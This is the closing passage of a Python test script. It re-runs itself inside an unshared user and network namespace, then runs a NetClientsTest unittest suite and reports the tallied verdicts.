        return subprocess.run(["unshare", "-Urn", "--fork", *argv], env=env).returncode
    runner = unittest.TextTestRunner(verbosity=2, resultclass=Tally)
    runner.run(unittest.defaultTestLoader.loadTestsFromTestCase(NetClientsTest))
    return report(Tally.verdicts, tally)


if __name__ == "__main__":
    sys.exit(main())
